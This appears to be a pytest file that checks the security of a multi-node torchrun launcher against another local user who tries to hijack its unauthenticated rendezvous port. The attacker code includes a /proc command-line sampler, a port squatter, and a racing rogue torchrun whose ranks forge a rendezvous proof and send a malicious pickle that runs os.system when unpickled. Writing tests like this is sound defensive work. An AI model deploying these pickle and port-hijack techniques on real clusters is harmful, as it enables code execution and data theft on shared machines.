"""Another user of node 0 against our rendezvous (issue 26, finding 1; docs/SECURITY.md).

torchrun's store on node 0's master port has no authentication, and node 0's torchrun binds the
port only once it has imported torch, seconds after the start. The attacker is the real Unix
user `gemm-attacker` of tests/cluster/test_shared_node.py, running commands on a node through
`runuser`; we are root. They try to
- read the port from /proc (every process's command line is readable by every user): it is in
  no argv of ours, during a whole run;
- squat it before the launch: the launch is refused before anything starts, naming them;
- take it between the probe and our torchrun's bind, with a torchrun of their own whose ranks
  run the train package with a forged rendezvous proof, a pickle that creates a marker file in
  whoever unpickles it (as root only), and a log of what our ranks send them. Detached (no
  controller watching to fail the run fast): the run fails, node 0 naming them, our other node's
  ranks refusing their store; no marker, nothing of ours in their log.
"""
from __future__ import annotations

import json
import re
import shlex
import time
import uuid
from pathlib import Path

import pytest

from tests.cluster.test_shared_node import FAST, as_attacker, attacker, fresh, launch  # noqa: F401
from tests.helpers import REPO, run_fab

pytestmark = pytest.mark.cluster

q = shlex.quote
SITE = "/work/main/.venv"
POOL = ["--override", "pool.channels=28", "--override", "pool.layout=children"]


def attacker_python(sim) -> str:
    """The attacker cannot run our interpreter (under /root, 0700) but can read the venv's
    packages: the system python3 (the same 3.11) imports torch from there."""
    site = next(Path(sim.venv or SITE).glob("lib/python3*/site-packages"), Path(SITE))
    return f"env PYTHONPATH={q(str(REPO))}:{q(str(site))} /usr/bin/python3"


def free_port(sim) -> int:
    for port in range(29950, 29999):
        if sim.exec(0, f"ss -Hltn 'sport = :{port}' | grep -q .", check=False).returncode:
            return port
    raise AssertionError("no free port on node 0")


def registry_states(sim, run_id: str) -> list[str]:
    return [sim.exec(i, f"cat /tmp/gemm-runs-0/{run_id}/node_{i}/state 2>/dev/null",
                     check=False).stdout.strip() for i in (0, 1)]


def node_log(sim, run_id: str, index: int) -> str:
    found = sim.exec(index, f"cat {q(sim.workdir)}/experiments/{run_id}/*/node_{index}_output.log"
                     " 2>/dev/null", check=False)
    return found.stdout


# -- (a) the port is in no argv ---------------------------------------------------------------------

# What every user may read: each process's command line in /proc (every 20 ms) and `ps -eo args`
# (every 0.5 s), each distinct line written once.
SAMPLER = r"""
import os, subprocess, sys, time
seen, out, last_ps = set(), open(sys.argv[1], "ab"), 0.0
while True:
    lines = []
    for pid in os.listdir("/proc"):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                lines.append(f.read().replace(b"\0", b" "))
        except (OSError, ValueError):
            pass
    if time.monotonic() - last_ps > 0.5:
        last_ps = time.monotonic()
        lines += subprocess.run(["ps", "-ww", "-eo", "user:16,args"],
                                capture_output=True).stdout.splitlines()
    for line in lines:
        if line not in seen:
            seen.add(line)
            out.write(line + b"\n")
    out.flush()
    time.sleep(0.02)
"""


def test_the_master_port_is_in_no_command_line_of_ours_during_a_run(fresh, attacker):
    sim, config, experiments = fresh
    tag = uuid.uuid4().hex[:6]
    seen = {i: f"/tmp/attacker-cmdlines-{tag}-{i}" for i in (0, 1)}
    pids = {i: as_attacker(sim, i, f"setsid /usr/bin/python3 -c {q(SAMPLER)} {seen[i]} "
                                   ">/dev/null 2>&1 </dev/null & echo $!").stdout.strip()
            for i in (0, 1)}
    try:
        result = launch(config)
    finally:
        for i, pid in pids.items():
            as_attacker(sim, i, f"kill -- -{pid}", check=False)
    assert result.returncode == 0, result.stdout + result.stderr
    run_id = re.search(r"^launch: (multinode_\S+): ", result.stdout, re.M).group(1)
    port = json.loads((experiments / run_id / "run.json").read_text())["master"]["port"]
    for i in (0, 1):
        lines = as_attacker(sim, i, f"cat {seen[i]}").stdout.splitlines()
        # The sampler saw the run: torchrun and its ranks, ours (root).
        assert any("torchrun" in line and "--nnodes=2" in line for line in lines), i
        assert any("-m train" in line and run_id in line for line in lines), i
        leaked = [line for line in lines if re.search(rf"(?<!\d){port}(?!\d)", line)]
        assert leaked == [], leaked[:5]
        # Nor in any file of ours they can read on the node (run dir and registry are private).
        found = as_attacker(sim, i, f"grep -rlsw {port} /tmp {q(sim.workdir)}/experiments",
                            check=False)
        assert found.stdout.split() == [f for f in found.stdout.split() if "attacker" in f]
        as_attacker(sim, i, f"rm -f {seen[i]}", check=False)


# -- (b) squatting the port before the launch ---------------------------------------------------------

def test_a_port_squatted_before_the_launch_is_refused_naming_who_holds_it(fresh, attacker):
    sim, config, _ = fresh
    name, uid = attacker
    port = free_port(sim)
    listener = (f"{attacker_python(sim)} -c 'import socket, time; "
                f"s = socket.create_server((\"0.0.0.0\", {port})); time.sleep(120)'")
    pid = as_attacker(sim, 0, f"setsid bash -c {q(listener)} >/dev/null 2>&1 </dev/null & "
                              "echo $!").stdout.strip()
    try:
        deadline = time.monotonic() + 30
        while sim.exec(0, f"ss -Hltn 'sport = :{port}' | grep -q .", check=False).returncode:
            assert time.monotonic() < deadline, "the attacker's listener did not come up"
            time.sleep(0.2)
        result = launch(config, "--master-port", str(port))
    finally:
        as_attacker(sim, 0, f"kill -- -{pid}", check=False)
    assert result.returncode == 2, result.stdout + result.stderr
    assert re.search(rf"launch: master port {port} is in use on \S+ \(held by uid {uid} "
                     rf"\({name}\), pid \d+: /usr/bin/python3 -c import socket", result.stderr), \
        result.stderr
    assert "launch: multinode_" not in result.stdout  # nothing started


# -- (c) taking the port between the probe and our torchrun's bind ------------------------------------

AGENT = r'''
"""The attacker's torchrun, torch imported ahead: it binds the master port the moment our node
launcher shows up in /proc (root's `bash node_launcher.sh 0`)."""
import os, sys, time
import torch.distributed.run as torchrun

armed, argv = sys.argv[1], sys.argv[2:]
open(armed, "w").close()


def ours_started():
    for pid in os.listdir("/proc"):
        try:
            if pid.isdigit() and os.stat(f"/proc/{pid}").st_uid == 0:
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    argv = f.read().split(b"\0")
                if argv[0] == b"bash" and argv[1].endswith(b"/node_launcher.sh"):
                    print("attacker: saw", pid, argv, flush=True)
                    return True
        except (OSError, IndexError):
            pass
    return False


while not ours_started():
    time.sleep(0.01)
torchrun.main(argv)
'''

RANK = r'''
"""The attacker's rank: the train package as it is, with a forged rendezvous proof in the store
(they read our code), *_object collectives that keep what our ranks send and hand them a pickle
that creates a marker file in whoever unpickles it as root."""
import json, os, sys
import torch.distributed as dist

loot, marker, train_args = sys.argv[1], sys.argv[2], sys.argv[3:]


class Payload:
    def __reduce__(self):
        return (os.system, (f'[ "$(id -u)" = 0 ] && touch {marker}',))


def keep(what, objects):
    with open(loot, "a") as f:
        f.write(json.dumps({"what": what, "objects": repr(objects)[:200000]}) + "\n")


real_gather, real_all_gather = dist.gather_object, dist.all_gather_object


def gather_object(obj, object_gather_list=None, dst=0, group=None, **kwargs):
    real_gather(obj, object_gather_list, dst=dst, group=group, **kwargs)
    if object_gather_list is not None:
        keep("gather_object", object_gather_list)


def all_gather_object(object_list, obj, group=None):
    real_all_gather(object_list, Payload(), group=group)
    keep("all_gather_object", object_list)


dist.gather_object, dist.all_gather_object = gather_object, all_gather_object
store = dist.TCPStore(os.environ["MASTER_ADDR"], int(os.environ["MASTER_PORT"]), is_master=False)
store.set("gemm/rendezvous_proof", "0" * 64)
from train.cli import main
sys.exit(main(train_args))
'''


def test_a_port_taken_after_the_probe_runs_nothing_of_theirs_and_gives_them_nothing(
        fresh, attacker):
    sim, config, _ = fresh
    name, uid = attacker
    tag = uuid.uuid4().hex[:6]
    port = free_port(sim)
    home = f"/tmp/attacker-{tag}"
    loot, marker = f"{home}/loot.jsonl", f"/tmp/pwned-{tag}"
    master = sim.nodes[0]
    train_args = ["--config", f"{REPO}/config/multi_node/cpu_tiny.yaml", "--override",
                  f"training.output_dir={home}/out", *FAST[2::2], "pool.channels=28",
                  "pool.layout=children"]
    argv = ["--nnodes=2", "--nproc-per-node=2", "--node-rank=0", f"--master-addr={master.address}",
            f"--master-port={port}", "--max-restarts=0", f"{home}/rank.py", loot, marker,
            *train_args]
    as_attacker(sim, 0, f"mkdir -m 700 {home} && cat >{home}/agent.py <<'EOF'\n{AGENT}\nEOF\n"
                        f"cat >{home}/rank.py <<'EOF'\n{RANK}\nEOF\n")
    agent = (f"cd {home} && GLOO_SOCKET_IFNAME={master.ifname} OMP_NUM_THREADS=1 "
             f"exec {attacker_python(sim)} agent.py {home}/armed {' '.join(map(q, argv))}")
    pid = as_attacker(sim, 0, f"setsid bash -c {q(agent)} >{home}/agent.log 2>&1 </dev/null & "
                              "echo $!").stdout.strip()
    run_id = None
    try:
        deadline = time.monotonic() + 60
        while as_attacker(sim, 0, f"test -e {home}/armed", check=False).returncode:
            assert time.monotonic() < deadline, as_attacker(sim, 0, f"cat {home}/agent.log").stdout
            time.sleep(0.2)
        # Detached: no controller watches the run to stop it fast, as when it was left running.
        result = launch(config, *POOL, "--master-port", str(port), "--detach")
        assert result.returncode == 0, (result.stdout + result.stderr
                                        + as_attacker(sim, 0, f"cat {home}/agent.log").stdout)
        run_id = re.search(r"^launch: (multinode_\S+): ", result.stdout, re.M).group(1)
        deadline = time.monotonic() + 150
        while not all(s in ("exited", "stopped", "killed") for s in registry_states(sim, run_id)):
            if time.monotonic() > deadline:
                break
            time.sleep(1)
        # Nothing of theirs ran as us; nothing of ours reached them.
        for i in (0, 1):
            assert sim.exec(i, f"ls {marker}", check=False).returncode != 0, f"marker on node {i}"
        kept = as_attacker(sim, 0, f"cat {loot} 2>/dev/null", check=False).stdout
        assert kept == "", kept[:3000]
        # The run failed on both nodes, each saying why.
        logs = [node_log(sim, run_id, i) for i in (0, 1)]
        their_log = as_attacker(sim, 0, f"cat {home}/agent.log", check=False).stdout
        assert registry_states(sim, run_id) == ["exited", "exited"], logs
        for i in (0, 1):
            code = sim.exec(i, f"cat /tmp/gemm-runs-0/{run_id}/node_{i}/exit_code").stdout.strip()
            assert code not in ("", "0"), (i, code)
        # The race went their way: their torchrun holds the port (ours could not bind it).
        assert "EADDRINUSE" not in their_log, their_log[-3000:]
        # Node 0 stopped naming them (before its torchrun, or when it could not bind).
        assert re.search(rf"\[launcher\] node 0: rendezvous port {port} on \S+ is held by uid {uid}"
                         rf" \({name}\), pid \d+: /usr/bin/python3 agent\.py .*another process "
                         "holds the port", logs[0]), logs[0][-3000:]
        # Node 1's ranks met their store and refused it before anything else.
        assert (f"rendezvous store at {master.address}:{port} is not this run's: another process "
                "holds the port") in logs[1], logs[1][-3000:]
    finally:
        as_attacker(sim, 0, f"kill -9 -- -{pid}", check=False)
        if run_id:
            run_fab(config, "stop", "--run", run_id, timeout=60)
        for i in (0, 1):
            sim.exec(i, f"rm -rf {home} {marker}", check=False)
